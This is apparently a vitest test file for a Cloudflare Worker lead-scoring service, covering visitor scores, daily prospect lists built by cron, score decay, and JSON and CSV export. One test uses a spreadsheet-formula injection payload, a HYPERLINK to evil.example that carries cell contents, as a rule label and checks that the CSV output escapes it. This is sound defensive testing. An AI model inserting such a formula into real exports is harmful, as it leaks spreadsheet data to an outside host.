import { createScheduledController } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import worker from "../../worker/index";
import { api, beaconBody, createSite, event, ORIGIN, sendBeacon, tableCounts, track, visitor } from "../support/api";
import { captureQueue, drainQueue, type Queued } from "../support/jobs";

const HOUR = 3_600_000;
const DAY = 24 * HOUR;

let queued: Queued[] = [];
beforeEach(() => {
  queued = captureQueue();
});
afterEach(() => vi.restoreAllMocks());

/** The hourly cron at `at`, and every message its fan-out hands on, run to the end. */
async function runCron(at: number): Promise<void> {
  await worker.scheduled(createScheduledController({ scheduledTime: at, cron: "0 * * * *" }), env);
  await drainQueue(queued);
}

const dayOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
const at8 = (ms: number) => Date.parse(`${dayOf(ms)}T08:00:00Z`);

interface ListJson {
  date: string;
  stored: boolean;
  prospects: { visitorId: string; score: number; isNew: boolean; reasons: { rule: string; points: number }[] }[];
}

/** The first worked example: three visits of page views, videos and contact-page views. */
async function workedExampleJourney(visitorId: string): Promise<void> {
  // visit 1, five hours ago: 3 page views (3), a video (2), the contact page (5) = 10
  await track("acme", visitorId, event("pageview", "/", 5 * HOUR), event("pageview", "/video", 5 * HOUR - 60_000), event("video_play", "/video", 5 * HOUR - 50_000), event("pageview", "/contact", 5 * HOUR - 40_000));
  // visit 2, three hours ago: 4 page views (4), two videos (4), the contact page (5) = 13
  await track("acme", visitorId, event("pageview", "/", 3 * HOUR), event("pageview", "/pricing", 3 * HOUR - 60_000), event("pageview", "/video", 3 * HOUR - 50_000), event("video_play", "/video", 3 * HOUR - 40_000), event("video_play", "/video", 3 * HOUR - 30_000), event("pageview", "/contact", 3 * HOUR - 20_000));
  // visit 3, now: the third-visit bonus (10), 5 page views (5), a video (2), the contact page twice (10) = 27
  await track("acme", visitorId, event("pageview", "/", 60_000), event("pageview", "/contact", 50_000), event("pageview", "/video", 40_000), event("video_play", "/video", 30_000), event("pageview", "/pricing", 20_000), event("pageview", "/contact", 10_000));
}

describe("the first worked example, end to end", () => {
  it("scores the journey exactly and puts the visitor on that day's prospect list", async () => {
    await createSite();
    await workedExampleJourney("visitor-journey");
    await track("acme", "visitor-casual", event("pageview", "/"));
    const v = await visitor("acme", "visitor-journey");
    expect(v.visits).toBe(3);
    expect(v.score).toBe(10 + 13 + 27);
    expect(v.prospect).toBe(true);
    expect(Object.fromEntries(v.breakdown.map((b) => [b.rule, b.points]))).toEqual({ "page-view": 12, "video-play": 8, "contact-page": 20, "third-visit": 10 });

    const live = (await (await api("/api/sites/acme/prospects")).json()) as ListJson;
    expect(live.stored).toBe(false);
    expect(live.prospects).toEqual([
      {
        visitorId: "visitor-journey",
        email: null,
        emailVerified: false,
        score: 50,
        class: "prospect",
        grade: null,
        since: expect.any(String),
        isNew: true,
        stage: "prospect",
        probability: null,
        reasons: [
          { rule: "contact-page", label: "Contact page view", points: 20 },
          { rule: "page-view", label: "Page view", points: 12 },
          { rule: "third-visit", label: "Came back a third time", points: 10 },
        ],
      },
    ]);
  });

  it("stores each day's list at the site's hour, flags who is new, and serves it as JSON and CSV", async () => {
    await createSite();
    await workedExampleJourney("visitor-journey");
    const now = Date.now();
    const yesterday = dayOf(now - DAY);
    const today = dayOf(now);

    // Before the list hour nothing is stored; at it, the list is stored once.
    await runCron(at8(now - DAY) - 2 * HOUR);
    expect((await tableCounts()).prospect_lists).toBe(0);
    await runCron(at8(now - DAY));
    await runCron(at8(now - DAY) + HOUR);
    expect((await tableCounts()).prospect_lists).toBe(1);
    const first = (await (await api(`/api/sites/acme/prospects?date=${yesterday}`)).json()) as ListJson;
    expect(first.stored).toBe(true);
    expect(first.prospects.map((p) => [p.visitorId, p.isNew])).toEqual([["visitor-journey", true]]);

    // The next morning: the same lead is no longer new, a new one is.
    await workedExampleJourney("visitor-second");
    await runCron(at8(now));
    const second = (await (await api(`/api/sites/acme/prospects?date=${today}`)).json()) as ListJson;
    expect(second.stored).toBe(true);
    expect(second.prospects.map((p) => [p.visitorId, p.isNew])).toEqual([["visitor-journey", false], ["visitor-second", true]]);

    const csv = await api(`/api/sites/acme/prospects?date=${today}&format=csv`);
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const lines = (await csv.text()).trimEnd().split("\r\n");
    expect(lines[0]).toBe("visitor_id,email,score,class,grade,prospect_since,new,reasons,name,company,title,last_seen,source,email_verified,stage,probability,outcome,reason,value");
    expect(lines[1]).toMatch(/^visitor-journey,,50,prospect,,\d{4}-\d\d-\d\dT[\d:.]+Z,no,Contact page view \+20; Page view \+12; Came back a third time \+10,,,,\d{4}-\d\d-\d\dT[\d:.]+Z,,no,prospect,,,,$/);
    expect(lines).toHaveLength(3);
  });

  it("sweeps decayed scores at the list hour, so the stored list and the score column agree with the rules", async () => {
    await createSite("acme", {
      prospectAt: 10,
      pricingPaths: ["/pricing"],
      dimensions: { engagement: { decay: { halfLifeDays: 1 } } },
      rules: [{ id: "pricing", label: "Pricing page", points: 12, when: { event: "pricing_view" } }],
    });
    await track("acme", "visitor-decay1", event("pageview", "/pricing"));
    expect((await visitor("acme", "visitor-decay1")).prospect).toBe(true);
    // On the morning two days on, with a one-day half-life, the 12 points are worth less than 10: the
    // cron sweeps the score column and its list leaves the lead out.
    const later = at8(Date.now() + 2 * DAY);
    await runCron(later);
    const row = await env.DB.prepare("SELECT score, prospect_since FROM visitors WHERE id = 'visitor-decay1'").first<{ score: number; prospect_since: number | null }>();
    const expected = 12 * 0.5 ** ((later - Date.now()) / DAY);
    expect(row?.score).toBeCloseTo(expected, 1);
    expect(row?.score).toBeLessThan(10);
    expect(row?.prospect_since).toBeNull();
    expect((await tableCounts()).prospect_lists).toBe(1);
    const lines = await env.DB.prepare("SELECT count(*) AS n FROM prospect_list_rows WHERE site_id = 'acme'").first<{ n: number }>();
    expect(lines?.n).toBe(0);
  });

  it.each([
    ["a malformed date", "date=2026-13-01", 400],
    ["a date in the future", `date=${dayOf(Date.now() + 3 * DAY)}`, 400],
    ["a past date with no stored list", "date=2020-01-01", 404],
    ["an unknown format", "format=xml", 400],
  ])("answers %s with %i", async (_name, query, status) => {
    await createSite();
    expect((await api(`/api/sites/acme/prospects?${query}`)).status).toBe(status);
  });

  it("puts name, company, title, last seen and source in the CSV, with a byte order mark for Excel on request", async () => {
    await createSite("acme", { prospectAt: 1, rules: [{ id: "pv", points: 1, when: { event: "pageview" } }] });
    await track("acme", "visitor-0001", event("pageview"), event("identify", "/", 0, { d: { email: "zoe@acme.example", first_name: "Zoë", last_name: "Ångström", company: "Acme, Inc.", title: "CTO" } }));
    const body = beaconBody("acme", "visitor-0002", [event("pageview")]);
    body.e[0]!.u = `${ORIGIN}/?utm_source=newsletter&utm_medium=email`;
    expect((await sendBeacon(body)).status).toBe(202);
    const plain = await (await api("/api/sites/acme/prospects?format=csv")).arrayBuffer();
    const withBom = new Uint8Array(await (await api("/api/sites/acme/prospects?format=csv&bom=1")).arrayBuffer());
    expect([...withBom.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.slice(3)).toEqual(new Uint8Array(plain));
    const lines = new TextDecoder().decode(plain).trimEnd().split("\r\n");
    // Both score 1: today's live list orders equal scores by id, last first; the stored list by who crossed first.
    const cells = lines.slice(1).map((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
    const rows = cells.sort((a, b) => String(a[0]).localeCompare(String(b[0]))).map((c) => c.slice(8, 14));
    expect(rows).toEqual([
      ["Zoë Ångström", '"Acme, Inc."', "CTO", expect.stringMatching(/^\d{4}-.*Z$/), "", "no"],
      ["", "", "", expect.stringMatching(/^\d{4}-.*Z$/), "newsletter / email", "no"],
    ]);
  });

  it("escapes a rule label that would run as a spreadsheet formula in the CSV", async () => {
    await createSite("acme", {
      prospectAt: 3,
      rules: [{ id: "evil", label: '=HYPERLINK("https://evil.example/?"&A1,"Open")', points: 5, when: { event: "pageview" } }],
    });
    await track("acme", "visitor-0001", event("pageview"));
    const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
    const cell = csv.trimEnd().split("\r\n")[1]?.split(",").slice(7, -11).join(",");
    expect(cell).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"") +5"');
  });
});

describe("a site that scores without a prospect list", () => {
  it("scores leads, and its list answers empty and says there is no threshold", async () => {
    await createSite("acme", { classes: [{ name: "warm", min: 2 }], rules: [{ id: "page", points: 1, when: { event: "pageview" } }] });
    await track("acme", "visitor-nolist", event("pageview", "/"), event("pageview", "/a"), event("pageview", "/b"));
    const v = await visitor("acme", "visitor-nolist");
    expect(v).toMatchObject({ score: 3, prospect: false });
    const list = (await (await api("/api/sites/acme/prospects")).json()) as ListJson & { hasThreshold: boolean };
    expect(list).toMatchObject({ hasThreshold: false, prospects: [] });
    await runCron(Date.now() + DAY);
    const csv = await (await api("/api/sites/acme/prospects?format=csv")).text();
    expect(csv.trim().split("\r\n")).toHaveLength(1);
  });
});
